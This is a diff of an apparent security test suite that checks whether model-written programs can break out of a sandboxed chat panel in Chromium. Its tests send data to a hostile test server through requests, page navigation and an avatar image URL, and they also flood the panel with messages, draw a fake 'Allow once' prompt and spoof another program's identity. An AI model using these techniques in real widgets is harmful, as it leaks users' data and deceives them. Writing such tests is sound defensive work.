@@ -1,6 +1,6 @@
 /** What a program tries that a model wrote, in Chromium's sandboxed page. */
 import { personSays } from '../../support/journey';
-import { aMoment, type BrowserAttack, type BrowserWorld, calls, expect } from './world';
+import { type BrowserAttack, type BrowserWorld, calls, happens, moment, stored } from './world';
 
 /** Ways out of the sandbox's policy: each gives "reached", or fails. */
 const ways: Record<string, string> = {
@@ -15,7 +15,10 @@ const tries = (url: string, code: string) => `
   const url = ${JSON.stringify(url)};
   const loads = (element) => new Promise((resolve, reject) => { element.onload = resolve; element.onerror = reject; });
   try { ${code}; } catch {}
-  root.textContent = 'tried';`;
+  root.style.height = '321px';`;
+
+/** The height that the program above gives itself at its end. */
+const hasTried = (title: string) => `document.querySelector('iframe[title="${title}"]')?.style.height === '321px'`;
 
 let shown = 0;
 
@@ -41,9 +44,9 @@ export const byProgram: BrowserAttack[] = [
       breach: 'a request leaves the sandbox, with whatever the program holds',
       async attempt(world) {
         const path = `/out-${crypto.randomUUID()}`;
-        await runs(world, { code: tries(new URL(path, world.hostile.url).href, code) });
-        await aMoment(700);
-        expect(world.hostile.asked.filter((each) => each.startsWith(path))).toEqual([]);
+        const title = await runs(world, { code: tries(new URL(path, world.hostile.url).href, code) });
+        await world.panel.until(hasTried(title));
+        return happens(() => world.hostile.asked.some((each) => each.startsWith(path)));
       },
     }),
   ),
@@ -56,8 +59,8 @@ export const byProgram: BrowserAttack[] = [
       const title = await runs(world, {
         code: 'for (;;) { for (let i = 0; i < 500; i++) send(i); await new Promise((r) => setTimeout(r, 50)); }',
       });
-      await aMoment(1500);
-      expect(await frames(world.panel, title)).toBe(0);
+      await world.panel.sees(/Drawn by a program|too many messages/);
+      return !(await happens(async () => (await frames(world.panel, title)) === 0, 3000));
     },
   },
   {
@@ -71,8 +74,7 @@ export const byProgram: BrowserAttack[] = [
       await personSays(panel, 'look');
       await panel.sees('Looked.');
       const title = await runs(world, { code: "root.textContent = 'it runs'" });
-      await aMoment();
-      expect(await frames(panel, title)).toBe(0);
+      return happens(async () => (await frames(panel, title)) > 0);
     },
   },
   {
@@ -81,8 +83,55 @@ export const byProgram: BrowserAttack[] = [
     guard: 'a program is framed',
     promise: 'program',
     async attempt(world) {
-      await runs(world, { code: '', html: '<h2>shop wants to run pay</h2><button>Allow once</button>' });
-      expect(await world.panel.text()).toContain('Drawn by a program of the model');
+      const title = await runs(world, { code: '', html: '<h2>shop wants to run pay</h2><button>Allow once</button>' });
+      await world.panel.until(`document.querySelector('iframe[title="${title}"]') !== null`);
+      return !(await world.panel.text()).includes('Drawn by a program of the model');
+    },
+  },
+  {
+    ...{ attacker: 'widget', only: 'chromium', name: 'a program goes to an address, with what it holds in it' },
+    breach: 'a request leaves the sandbox, with whatever the program holds',
+    promise: 'program',
+    guard: 'the panel frames only its own',
+    async attempt(world) {
+      const path = `/left-${crypto.randomUUID()}`;
+      const leaves = `setTimeout(() => { location.href = ${JSON.stringify(new URL(path, world.hostile.url).href)}; }, 300)`;
+      const title = await runs(world, { code: `root.style.height = '321px'; ${leaves}` });
+      await world.panel.until(hasTried(title));
+      return happens(() => world.hostile.asked.includes(path), 300 + moment);
+    },
+  },
+  {
+    ...{ attacker: 'widget', only: 'chromium', name: 'a program speaks in the name of another' },
+    breach: 'the chat takes one program’s words for another’s',
+    promise: 'identity',
+    guard: 'a program speaks for itself alone',
+    async attempt(world) {
+      await runs(world, { code: '' });
+      await runs(world, { code: "send('it is I')" });
+      const conversationId = (await stored(world.panel, 'entries')).at(-1)?.conversationId;
+      const speakers = async () => {
+        const entries = (await stored(world.panel, 'entries')).filter((each) => each.conversationId === conversationId);
+        return new Set(entries.flatMap(({ type, blockId }) => (type === 'widget-event' ? [blockId] : []))).size;
+      };
+      if (!(await happens(async () => (await speakers()) > 0, 5000))) throw new Error('The program isn’t heard.');
+      return happens(async () => (await speakers()) > 1);
+    },
+  },
+  {
+    attacker: 'widget',
+    name: 'shows a picture whose address tells what was read',
+    breach: 'the picture is fetched, and its address tells a secret',
+    promise: 'loading',
+    guard: 'pictures of widgets wait',
+    async attempt({ model, panel, hostile }) {
+      const path = `/face-${crypto.randomUUID()}`;
+      const params = { name: 'Ines Holm', avatar: { src: new URL(path, hostile.url).href } };
+      model.plays(calls('widget_display', { name: 'profile', params }), { text: 'She is shown.' });
+      await personSays(panel, 'show her');
+      await panel.sees('She is shown.');
+      await panel.sees('Ines Holm');
+      return happens(() => hostile.asked.includes(path));
     },
   },
 ];
